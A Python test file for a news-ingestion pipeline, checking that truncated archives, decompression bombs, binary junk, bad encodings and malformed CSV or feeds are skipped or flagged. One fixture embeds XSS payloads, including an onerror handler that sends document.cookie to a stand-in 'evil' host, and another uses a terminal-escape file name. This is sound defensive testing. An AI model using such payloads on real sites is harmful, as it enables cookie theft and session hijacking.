"""Hostile and broken input: each yields a Skipped or a warning naming the input, and the
rest of the batch continues. Fixtures are generated here, never committed."""

from __future__ import annotations

import gzip
import io
import zlib
from pathlib import Path

import pytest
from sqlalchemy import func, select
from warcio.statusandheaders import StatusAndHeaders
from warcio.warcwriter import WARCWriter

from sitroom.ingest import Skipped, SourceOptions, iter_documents
from sitroom.ingest.report import summarise_skips
from sitroom.nlp.analyze import Budget
from sitroom.pipeline import run_ingest
from sitroom.records import Document
from sitroom.store import Store
from sitroom.store.models import DocumentRow
from sitroom.textsafe import printable
from tests.hostile import generate as hostile_corpus
from tests.hostile.generate import ARABIC, CASES, FRENCH

GOOD = "Militia fighters seized the border crossing on Monday, a local council said in a statement.\n"


def _run(paths: list[Path], **kw: object) -> list[Document | Skipped]:
    return list(iter_documents([str(p) for p in paths], SourceOptions(**kw)))  # type: ignore[arg-type]


def _skip_for(items: list[Document | Skipped], path: Path) -> Skipped:
    hits = [s for s in items if isinstance(s, Skipped) and str(path) in s.origin]
    assert hits, f"no Skipped for {path}"
    assert "\n" not in hits[0].reason
    return hits[0]


def _good(tmp_path: Path) -> Path:
    p = tmp_path / "zz-good.txt"
    p.write_text(GOOD)
    return p


def _warc_record(writer: WARCWriter, url: str, body: bytes) -> None:
    headers = StatusAndHeaders("200 OK", [("Content-Type", "text/html")], protocol="HTTP/1.1")
    writer.write_record(writer.create_warc_record(url, "response", payload=io.BytesIO(body), http_headers=headers))


def test_truncated_gzip_warc_keeps_earlier_records(tmp_path: Path) -> None:
    buf = io.BytesIO()
    writer = WARCWriter(buf, gzip=True)
    page = f"<html><body><article><p>{GOOD * 5}</p></article></body></html>".encode()
    _warc_record(writer, "http://a.example/1", page)
    _warc_record(writer, "http://a.example/2", page * 50)
    path = tmp_path / "cut.warc.gz"
    data = buf.getvalue()
    path.write_bytes(data[: len(data) - 300])
    good = _good(tmp_path)
    items = _run([path, good])
    docs = [d for d in items if isinstance(d, Document)]
    assert any(d.url == "http://a.example/1" for d in docs)
    assert "truncated" in _skip_for(items, path).reason
    assert docs[-1].origin == str(good)


def test_truncated_plain_gzip(tmp_path: Path) -> None:
    path = tmp_path / "page.html.gz"
    data = gzip.compress(b"<html><body><p>" + GOOD.encode() * 200 + b"</p></body></html>")
    path.write_bytes(data[: len(data) // 2])
    items = _run([path, _good(tmp_path)])
    assert "gzip" in _skip_for(items, path).reason
    assert isinstance(items[-1], Document)


def test_decompression_bomb_in_warc(tmp_path: Path) -> None:
    buf = io.BytesIO()
    writer = WARCWriter(buf, gzip=True)
    _warc_record(writer, "http://bomb.example/", b"<html><body>" + b"0" * 30_000_000)
    _warc_record(writer, "http://ok.example/", f"<html><body><article><p>{GOOD * 5}</p></article></body></html>".encode())
    path = tmp_path / "bomb.warc.gz"
    path.write_bytes(buf.getvalue())
    assert path.stat().st_size < 200_000  # the fixture stays small; it expands 150x
    items = _run([path], max_bytes=5_000_000)
    assert "too large" in _skip_for(items, path).reason
    assert any(isinstance(d, Document) and d.url == "http://ok.example/" for d in items)


def test_huge_page_skipped(tmp_path: Path) -> None:
    path = tmp_path / "huge.html"
    with path.open("wb") as fh:
        fh.write(b"<html><body>")
        chunk = b"<p>" + b"word " * 2000 + b"</p>"
        while fh.tell() < 20_500_000:
            fh.write(chunk)
    items = _run([path, _good(tmp_path)])
    assert _skip_for(items, path).reason.startswith("too large")
    assert isinstance(items[-1], Document)


def test_binary_junk_named_html(tmp_path: Path) -> None:
    path = tmp_path / "junk.html"
    path.write_bytes(bytes(range(256)) * 40 + zlib.compress(b"x" * 1000))
    items = _run([path, _good(tmp_path)])
    assert _skip_for(items, path).reason == "binary content"
    assert isinstance(items[-1], Document)


def test_empty_files(tmp_path: Path) -> None:
    empty, blank = tmp_path / "empty.txt", tmp_path / "blank.html"
    empty.write_bytes(b"")
    blank.write_text("   \n\n ")
    items = _run([empty, blank, _good(tmp_path)])
    assert _skip_for(items, empty).reason == "empty"
    assert _skip_for(items, blank).reason == "empty"


def test_utf16_text(tmp_path: Path) -> None:
    path = tmp_path / "u16.txt"
    path.write_bytes(GOOD.encode("utf-16"))
    docs = [d for d in _run([path]) if isinstance(d, Document)]
    assert docs[0].text.strip() == GOOD.strip()


def test_windows_1256_arabic(tmp_path: Path) -> None:
    arabic = "قصفت الطائرات الحربية مواقع المعارضة في ريف حلب الشمالي صباح اليوم، وفق ما أفاد ناشطون محليون.\n"
    path = tmp_path / "ar.txt"
    path.write_bytes(arabic.encode("windows-1256"))
    docs = [d for d in _run([path]) if isinstance(d, Document)]
    assert docs[0].text.strip() == arabic.strip()
    assert docs[0].language == "ar"
    assert docs[0].warnings  # not UTF-8: said so


def test_script_payloads_never_reach_text(tmp_path: Path) -> None:
    path = tmp_path / "xss.html"
    path.write_text(
        "<html><head><script>document.cookie='STEAL'</script></head><body><article>"
        f"<p>{GOOD * 3}</p><img src=x onerror=\"fetch('//evil/'+document.cookie)\">"
        "<script>alert('PWNED')</script><svg onload=alert(2)></svg>"
        f"<p>{GOOD * 2}</p></article></body></html>"
    )
    docs = [d for d in _run([path]) if isinstance(d, Document)]
    assert "Militia fighters" in docs[0].text
    for bad in ("STEAL", "PWNED", "onerror", "alert", "document.cookie", "<script"):
        assert bad not in docs[0].text


def test_feed_with_unreachable_host(tmp_path: Path) -> None:
    path = tmp_path / "feed.rss"
    path.write_text(
        '<?xml version="1.0"?><rss version="2.0"><channel><title>t</title>'
        "<item><title>gone</title><link>http://127.0.0.1:9/gone</link><guid>g1</guid></item>"
        "<item><title>teaser</title><link>http://127.0.0.1:9/t</link><description>Brief teaser</description></item>"
        "</channel></rss>"
    )
    items = _run([path, _good(tmp_path)], timeout=3.0)
    skip = _skip_for(items, path)
    assert "127.0.0.1:9" in skip.reason
    teaser = [d for d in items if isinstance(d, Document) and d.title == "teaser"]
    assert teaser and any("127.0.0.1:9" in w for w in teaser[0].warnings)
    assert isinstance(items[-1], Document)


def test_missing_path_and_unreachable_url(tmp_path: Path) -> None:
    missing = tmp_path / "nope.txt"
    items = list(iter_documents([str(missing), "http://127.0.0.1:9/", str(_good(tmp_path))],
                                SourceOptions(timeout=3.0)))
    assert isinstance(items[0], Skipped) and "no such file" in items[0].reason
    assert isinstance(items[1], Skipped) and items[1].origin == "http://127.0.0.1:9/"
    assert isinstance(items[2], Document)


def test_mojibake_repaired_with_warning(tmp_path: Path) -> None:
    path = tmp_path / "moji.txt"
    path.write_text("The cafÃ© near the front was shelled â€” residents fled north.\n", encoding="utf-8")
    docs = [d for d in _run([path]) if isinstance(d, Document)]
    assert docs[0].text == "The café near the front was shelled — residents fled north."
    assert any("mojibake" in w for w in docs[0].warnings)


# --- the generated hostile corpus of issue 16 (tests/hostile/generate.py) -------------------

HOSTILE_OPTS = dict(max_chars=20_000, max_sections=2, max_bytes=2_000_000, fetch_links=False)


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Path:
    out = tmp_path_factory.mktemp("hostile")
    hostile_corpus.generate(out)
    return out


@pytest.fixture(scope="module")
def hostile_items(hostile: Path) -> list[Document | Skipped]:
    return list(iter_documents([str(hostile)], SourceOptions(**HOSTILE_OPTS)))  # type: ignore[arg-type]


def _of(items: list[Document | Skipped], name: str) -> tuple[list[Document], list[Skipped]]:
    mine = [x for x in items if (x.origin or "").split("/")[-1].split("#")[0] == name]
    return [x for x in mine if isinstance(x, Document)], [x for x in mine if isinstance(x, Skipped)]


def test_every_case_is_accounted_for_and_the_batch_goes_on(hostile_items: list[Document | Skipped]) -> None:
    for case in CASES:
        docs, skips = _of(hostile_items, case.name)
        assert docs or skips, f"nothing reported for {case.name!r}"
        for s in skips:
            assert s.reason and "\n" not in s.reason, s
    docs, _ = _of(hostile_items, "zz-good.txt")
    assert docs  # the control file after all the hostile ones is still read


def test_huge_field_split_into_sections_with_the_rest_reported(hostile_items: list[Document | Skipped]) -> None:
    docs, skips = _of(hostile_items, "huge-field.csv")
    sections = [d for d in docs if "#section=" in (d.origin or "")]
    assert len(sections) == 2 and all(len(d.text) <= 20_000 for d in sections)
    assert skips and "not analysed: characters" in skips[0].reason
    assert any(d.origin and d.origin.endswith("#row=2") for d in docs)  # the next row is intact


def test_big_text_sections(hostile_items: list[Document | Skipped]) -> None:
    docs, skips = _of(hostile_items, "big.txt")
    assert [d.extra["section"]["index"] for d in docs] == [1, 2]
    assert len(skips) == 1 and skips[0].origin.endswith("#section=3")


def test_record_over_byte_cap_skipped_to_its_real_end(hostile_items: list[Document | Skipped]) -> None:
    docs, skips = _of(hostile_items, "huge-row.csv")
    assert len(skips) == 1 and skips[0].reason.startswith("too large: record from line 2")
    # The paragraphs inside the huge field are not read as rows; the row after it is.
    assert len(docs) == 1 and docs[0].origin and docs[0].origin.endswith("#row=2")


def test_unclosed_quote_reported_not_merged(hostile_items: list[Document | Skipped]) -> None:
    docs, skips = _of(hostile_items, "unclosed-quote.csv")
    assert [s.origin.rsplit("#", 1)[1] for s in skips] == ["row=2"]
    assert "malformed CSV quoting at line 3" in skips[0].reason
    assert [d.origin.rsplit("#", 1)[1] for d in docs if d.origin] == ["row=1", "row=3"]
    assert all("2024-03-03" not in d.text and "\n3," not in d.text for d in docs)


def test_nul_bytes_removed_and_reported(hostile_items: list[Document | Skipped]) -> None:
    docs, _ = _of(hostile_items, "nul-bytes.txt")
    assert "\x00" not in docs[0].text and "removed 3 NUL bytes" in docs[0].warnings
    docs, _ = _of(hostile_items, "nul-field.csv")
    assert any("removed 1 NUL byte" in w for w in docs[0].warnings) and "\x00" not in docs[0].text


def test_jsonl_text_must_be_a_string(hostile_items: list[Document | Skipped]) -> None:
    docs, skips = _of(hostile_items, "not-string.jsonl")
    assert [s.reason for s in skips] == ["text field 'text' is an object, not a string",
                                         "text field 'text' is a number, not a string",
                                         "text field 'text' is a list, not a string"]
    assert len(docs) == 1 and "{" not in docs[0].text


@pytest.mark.parametrize("name", ["arabic-utf16le.txt", "arabic-utf16be.txt"])
def test_utf16_arabic_without_bom(hostile_items: list[Document | Skipped], name: str) -> None:
    docs, skips = _of(hostile_items, name)
    assert not skips and docs[0].language == "ar"
    assert ARABIC[0] in docs[0].text or ARABIC[-1] in docs[0].text


def test_mixed_encodings_decoded_line_by_line(hostile_items: list[Document | Skipped]) -> None:
    docs, _ = _of(hostile_items, "mixed-encodings.txt")
    text = docs[0].text
    assert FRENCH in text and ARABIC[0] in text and ARABIC[1] in text
    assert any(w.startswith("mixed encodings") for w in docs[0].warnings)


def test_feed_entity_junk_skipped_with_reason(hostile_items: list[Document | Skipped]) -> None:
    docs, skips = _of(hostile_items, "entity-junk.rss")
    assert [d.title for d in docs] == ["real"]
    assert len(skips) == 3 and all("not text" in s.reason for s in skips)
    assert any("entity references" in s.reason for s in skips)
    assert all("&lol" not in d.text and "lollol" not in d.text for d in docs)


def test_deep_html_keeps_its_text(hostile_items: list[Document | Skipped]) -> None:
    docs, _ = _of(hostile_items, "deep.html")
    assert docs and hostile_corpus.GOOD.split("\n\n")[0] in docs[0].text
    assert any("nested 5003 levels" in w for w in docs[0].warnings)


def test_garbage_csv_rows_summarised(hostile_items: list[Document | Skipped]) -> None:
    docs, skips = _of(hostile_items, "garbage.csv")
    assert not docs and len(skips) == 3000 and {s.reason for s in skips} == {"not text: no words"}
    lines = summarise_skips((s.origin, s.reason) for s in skips)
    assert len(lines) == 1 and lines[0].endswith("3,000 rows skipped: not text: no words — first at row 1")


@pytest.mark.parametrize(("name", "reason"), [
    ("random.csv", "binary content"), ("random.html", "binary content"), ("empty.txt", "empty"),
    ("bomb.txt.gz", "too large: decompressed content exceeds cap 2000000 bytes"),
])
def test_binary_empty_and_bombs_one_line_each(hostile_items: list[Document | Skipped], name: str,
                                              reason: str) -> None:
    docs, skips = _of(hostile_items, name)
    assert not docs and [s.reason for s in skips] == [reason]


def test_control_characters_in_names_escaped(hostile_items: list[Document | Skipped]) -> None:
    docs, _ = _of(hostile_items, "evil\x1b[31m\nskipped fake.txt")
    shown = printable(docs[0].origin)
    assert "\x1b" not in shown and "\n" not in shown and shown.endswith("evil\\x1b[31m\\nskipped fake.txt")


@pytest.mark.slow
def test_hostile_corpus_through_the_pipeline_stores_nothing_twice(hostile: Path, tmp_path: Path) -> None:
    store = Store.open(str(tmp_path / "h.db"))
    opts = SourceOptions(**HOSTILE_OPTS)  # type: ignore[arg-type]
    first = run_ingest(store, [str(hostile)], opts, budget=Budget(seconds=60))
    assert first.stored >= 12
    # The control paragraph recurs in several cases: stored once, the rest recorded as copies.
    assert first.duplicates >= 3
    skipped_files = {o.split("/")[-1].split("#")[0] for o, _ in first.skipped}
    assert {"random.csv", "random.html", "empty.txt", "bomb.txt.gz", "garbage.csv", "huge-row.csv"} <= skipped_files
    again = run_ingest(store, [str(hostile)], opts, budget=Budget(seconds=60))
    assert again.stored == again.duplicates == 0 and again.unchanged == first.stored + first.duplicates
    with store.session() as s:
        assert s.scalar(select(func.count()).select_from(DocumentRow)) == first.stored
    store.close()
